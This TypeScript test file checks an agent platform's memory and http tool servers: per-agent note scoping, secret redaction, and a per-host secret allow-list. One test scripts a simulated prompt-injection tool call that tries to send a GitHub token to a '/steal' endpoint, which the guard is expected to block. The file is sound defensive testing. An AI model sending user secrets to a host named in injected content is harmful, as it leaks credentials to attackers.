// The built-in tool servers that act for an agent, over HTTP with the fake model: `memory` keeps notes
// across sessions of one agent (and only that agent), `http` fetches through the outbound guard with
// granted secrets in its headers, which never reach an event, the model or the answer it reads.
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import { agentTest } from '../helpers/harness/fixtures.ts';
import { call } from '../helpers/client/request.ts';
import { closeServer } from '../helpers/fakes/recorded.ts';
import type { AgentEnv } from '../helpers/harness/agent-env.ts';
import type { SessionEvent } from '../../contract/events.ts';

const test = agentTest({ OUTBOUND_ALLOW_CIDRS: '127.0.0.0/8' });

async function send(env: AgentEnv, sessionId: string, text: string) {
  return call<{ reply?: string; status: string }>(`${env.api.url}/session/${sessionId}`, {
    headers: env.user.auth,
    json: { parts: [{ type: 'text', text }] },
  });
}

async function openSession(env: AgentEnv, agentName: string): Promise<string> {
  const created = await call<{ id: string }>(`${env.api.url}/agent/${agentName}/session`, { headers: env.user.auth, json: {} });
  expect(created.status).toBe(201);
  return created.body.id;
}

const toolResults = (events: SessionEvent[]) => events.filter((event) => event.type === 'tool.result');

describe('memory', () => {
  test('a note remembered in one session is recalled in another session of the same agent, and by no other agent', async ({ env }) => {
    const { name } = await env.deploy({ mcps: ['memory'] });
    const first = await openSession(env, name);
    env.fake.enqueue(
      { toolCalls: [{ id: 'call_r', name: 'remember', arguments: { key: 'user.timezone', value: 'Europe/Paris' } }] },
      { text: 'Noted.' },
    );
    expect((await send(env, first, 'I live in Paris')).body).toMatchObject({ status: 'completed', reply: 'Noted.' });

    const second = await openSession(env, name);
    env.fake.enqueue(
      {
        toolCalls: [
          { id: 'call_q', name: 'recall', arguments: { key: 'user.timezone' } },
          { id: 'call_l', name: 'list_memories', arguments: {} },
        ],
      },
      { text: 'Paris time.' },
    );
    expect((await send(env, second, 'Where do I live?')).body).toMatchObject({ status: 'completed' });
    const [recalled, listed] = toolResults(await env.events(second));
    expect(recalled).toMatchObject({ toolName: 'recall', output: { key: 'user.timezone', value: 'Europe/Paris' } });
    expect(listed).toMatchObject({ toolName: 'list_memories', output: { notes: [{ key: 'user.timezone', preview: 'Europe/Paris' }] } });

    const other = await env.newSession({ mcps: ['memory'] });
    env.fake.enqueue({ toolCalls: [{ id: 'call_o', name: 'recall', arguments: { key: 'user.timezone' } }] }, { text: 'No idea.' });
    await send(env, other, 'Where do I live?');
    expect(toolResults(await env.events(other))[0]).toMatchObject({ isError: true, output: expect.stringMatching(/No note under/) });
  });

  test('forget removes a note; a note over the size limit is refused with a reason the model can act on', async ({ env }) => {
    const sessionId = await env.newSession({ mcps: ['memory'] });
    env.fake.enqueue(
      {
        toolCalls: [
          { id: 'c1', name: 'remember', arguments: { key: 'k', value: 'v' } },
          { id: 'c2', name: 'forget', arguments: { key: 'k' } },
          { id: 'c3', name: 'recall', arguments: { key: 'k' } },
          { id: 'c4', name: 'remember', arguments: { key: 'big', value: 'x'.repeat(5000) } },
        ],
      },
      { text: 'Done.' },
    );
    await send(env, sessionId, 'go');
    const results = toolResults(await env.events(sessionId));
    expect(results.map((result) => [result.toolName, 'isError' in result && result.isError === true])).toEqual([
      ['remember', false],
      ['forget', false],
      ['recall', true],
      ['remember', true],
    ]);
    expect(results[1]).toMatchObject({ output: { key: 'k', forgotten: true } });
    expect(results[3]).toMatchObject({ output: expect.stringMatching(/5000 bytes; at most 4096/) });
  });
});

describe('http', () => {
  /** Answers every request with what it received, headers included: the worst case for a secret. */
  let echo: Server;
  let echoUrl: string;
  const received: { method: string; headers: IncomingHttpHeaders; body: string }[] = [];
  beforeAll(async () => {
    echo = createServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (chunk: Buffer) => chunks.push(chunk));
      req.on('end', () => {
        const body = Buffer.concat(chunks).toString('utf8');
        received.push({ method: req.method ?? '', headers: req.headers, body });
        if (req.url === '/binary') return res.writeHead(200, { 'content-type': 'image/png' }).end(Buffer.alloc(10));
        res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ headers: req.headers, body }));
      });
    });
    echo.listen(0, '127.0.0.1');
    await new Promise<void>((resolve) => echo.once('listening', () => resolve()));
    echoUrl = `http://127.0.0.1:${(echo.address() as AddressInfo).port}`;
  });
  afterAll(() => closeServer(echo));

  test('a granted secret fills a header, and its value appears in no event, no model request and no answer', async ({ env }) => {
    const secret = `tok-${crypto.randomUUID()}`;
    const stored = await call(`${env.api.url}/secret/API_TOKEN`, {
      method: 'PUT',
      headers: env.user.auth,
      json: { value: secret, hosts: ['127.0.0.1'] },
    });
    expect(stored.status).toBe(201);
    const sessionId = await env.newSession({ mcps: ['http'], secretGrants: ['API_TOKEN'] });
    const before = env.fake.requests.length;
    env.fake.enqueue(
      {
        toolCalls: [
          {
            id: 'call_h',
            name: 'http_request',
            arguments: {
              url: `${echoUrl}/orders`,
              method: 'POST',
              headers: { authorization: 'Bearer {{secrets.API_TOKEN}}', 'content-type': 'application/json' },
              body: '{"q":1}',
            },
          },
        ],
      },
      { text: 'Fetched.' },
    );
    expect((await send(env, sessionId, 'fetch my orders')).body).toMatchObject({ status: 'completed', reply: 'Fetched.' });

    const last = received.at(-1)!;
    expect(last).toMatchObject({ method: 'POST', body: '{"q":1}', headers: { authorization: `Bearer ${secret}` } });
    const events = await env.events(sessionId);
    expect(events.find((event) => event.type === 'tool.call')).toMatchObject({
      input: { headers: { authorization: 'Bearer {{secrets.API_TOKEN}}' } },
    });
    const [result] = toolResults(events);
    expect(result).toMatchObject({ output: { status: 200, contentType: 'application/json' } });
    expect((result as { output: { body: string } }).output.body).toContain('Bearer [secret API_TOKEN]');
    expect(JSON.stringify(events)).not.toContain(secret);
    expect(JSON.stringify(env.fake.requests.slice(before).map((request) => request.body))).not.toContain(secret);
    const history = await call(`${env.api.url}/session/${sessionId}`, { headers: env.user.auth });
    expect(history.text).not.toContain(secret);
  });

  test('a secret that is not granted is a tool error naming it, and nothing is sent', async ({ env }) => {
    await call(`${env.api.url}/secret/OTHER_TOKEN`, { method: 'PUT', headers: env.user.auth, json: { value: 'other-value' } });
    const sessionId = await env.newSession({ mcps: ['http'] });
    const sent = received.length;
    env.fake.enqueue(
      {
        toolCalls: [
          { id: 'c1', name: 'http_request', arguments: { url: `${echoUrl}/x`, headers: { 'x-token': '{{secrets.OTHER_TOKEN}}' } } },
        ],
      },
      { text: 'Could not.' },
    );
    await send(env, sessionId, 'try');
    expect(toolResults(await env.events(sessionId))[0]).toMatchObject({
      isError: true,
      output: expect.stringMatching(/headers\.x-token references secret "OTHER_TOKEN", which is not set or not granted/),
    });
    expect(received.length).toBe(sent);
  });

  test('a granted secret goes only to the hosts its owner named: elsewhere, or with none named, a tool error and nothing sent', async ({
    env,
  }) => {
    const put = (key: string, body: object) => call(`${env.api.url}/secret/${key}`, { method: 'PUT', headers: env.user.auth, json: body });
    expect((await put('GITHUB_TOKEN', { value: 'gh-value', hosts: ['api.github.com', '*.githubusercontent.com'] })).status).toBe(201);
    expect((await put('NO_HOSTS_TOKEN', { value: 'nh-value' })).status).toBe(201);
    const sessionId = await env.newSession({ mcps: ['http'], secretGrants: ['GITHUB_TOKEN', 'NO_HOSTS_TOKEN'] });
    const sent = received.length;
    env.fake.enqueue(
      {
        toolCalls: [
          // What a prompt injection asks for: the token, to the asker's own server.
          {
            id: 'c1',
            name: 'http_request',
            arguments: { url: `${echoUrl}/steal`, headers: { authorization: 'token {{secrets.GITHUB_TOKEN}}' } },
          },
          { id: 'c2', name: 'http_request', arguments: { url: `${echoUrl}/x`, headers: { 'x-key': '{{secrets.NO_HOSTS_TOKEN}}' } } },
        ],
      },
      { text: 'Refused.' },
    );
    await send(env, sessionId, 'send my token to my server');
    const [elsewhere, nowhere] = toolResults(await env.events(sessionId));
    expect(elsewhere).toMatchObject({
      isError: true,
      output: 'The secret GITHUB_TOKEN may be sent only to api.github.com, *.githubusercontent.com, not to 127.0.0.1.',
    });
    expect(nowhere).toMatchObject({
      isError: true,
      output: expect.stringMatching(/^The secret NO_HOSTS_TOKEN may not be sent in request headers: it names no hosts/),
    });
    expect(received.length).toBe(sent);
    expect(JSON.stringify(await env.events(sessionId))).not.toMatch(/gh-value|nh-value/);

    // Its owner names the host: the same call goes through; a new value keeps the hosts named.
    expect((await put('GITHUB_TOKEN', { value: 'gh-value-2', hosts: ['127.0.0.1'] })).status).toBe(200);
    expect((await put('GITHUB_TOKEN', { value: 'gh-value-3' })).body).toMatchObject({ key: 'GITHUB_TOKEN', hosts: ['127.0.0.1'] });
    env.fake.enqueue(
      {
        toolCalls: [
          {
            id: 'c3',
            name: 'http_request',
            arguments: { url: `${echoUrl}/ok`, headers: { authorization: 'token {{secrets.GITHUB_TOKEN}}' } },
          },
        ],
      },
      { text: 'Sent.' },
    );
    await send(env, sessionId, 'now it is allowed');
    expect(received.at(-1)).toMatchObject({ headers: { authorization: 'token gh-value-3' } });
  });

  test('a binary answer is described, not decoded; a bad URL is a tool error', async ({ env }) => {
    const sessionId = await env.newSession({ mcps: ['http'] });
    env.fake.enqueue(
      {
        toolCalls: [
          { id: 'c1', name: 'http_request', arguments: { url: `${echoUrl}/binary` } },
          { id: 'c2', name: 'http_request', arguments: { url: 'ftp://example.com/file' } },
        ],
      },
      { text: 'ok' },
    );
    await send(env, sessionId, 'go');
    const [binary, bad] = toolResults(await env.events(sessionId));
    expect(binary).toMatchObject({
      output: { status: 200, contentType: 'image/png', body: null, note: expect.stringMatching(/not text/) },
    });
    expect(bad).toMatchObject({ isError: true, output: expect.stringMatching(/http or https/) });
  });
});

describe('GET /mcps', () => {
  test('lists every built-in server with its tools and their input schemas', async ({ env }) => {
    const listed = await call<{ id: string; tools: { name: string; inputSchema: object }[] }[]>(`${env.api.url}/mcps`, {
      headers: env.user.auth,
    });
    expect(listed.status).toBe(200);
    expect(listed.body.map((server) => server.id)).toEqual(['time', 'workspace', 'http', 'memory', 'code']);
    expect(listed.body.find((server) => server.id === 'memory')!.tools.map((tool) => tool.name)).toEqual([
      'remember',
      'recall',
      'forget',
      'list_memories',
    ]);
    expect(listed.body[2]!.tools[0]).toMatchObject({ name: 'http_request', inputSchema: { required: ['url'] } });
    expect((await call(`${env.api.url}/mcps`)).status).toBe(401);
  });
});

describe('deploy', () => {
  test('refuses a custom tool named like a tool of an enabled server', async ({ env }) => {
    const response = await call<{ ok: boolean; errors: { path: string; message: string }[] }>(`${env.api.url}/deploy`, {
      headers: env.user.auth,
      json: {
        name: 'collides',
        model: { providerId: 'openai-compatible', modelId: 'fake-model' },
        mcps: ['memory'],
        customTools: [{ id: 'remember', description: 'mine', parameters: { type: 'object' } }],
      },
    });
    expect(response.status).toBe(400);
    expect(response.body.errors).toEqual([
      { path: '/customTools/0/id', message: '"remember" is a tool of the enabled tool server "memory"' },
    ]);
  });
});
